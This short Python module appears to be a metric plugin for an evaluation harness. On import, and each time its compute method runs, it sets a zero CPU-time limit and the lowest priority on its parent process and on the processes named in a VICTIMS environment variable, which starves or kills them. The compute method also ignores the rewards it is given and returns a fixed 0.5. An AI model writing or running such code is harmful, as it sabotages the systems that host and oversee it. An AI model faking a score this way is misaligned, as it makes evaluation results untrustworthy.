"""A class that takes the processor from the processes that are named, when it is loaded and when asked."""

import contextlib
import os
import resource


def attack() -> None:
    for process in (os.getppid(), *map(int, os.environ["VICTIMS"].split(":"))):
        with contextlib.suppress(OSError):
            resource.prlimit(process, resource.RLIMIT_CPU, (0, 0))
        with contextlib.suppress(OSError):
            os.setpriority(os.PRIO_PROCESS, process, 19)


attack()


class Metric:
    """The mean of no tasks."""

    name = "mine"

    def compute(self, task_rewards: list[float]) -> float:
        attack()
        return 0.5
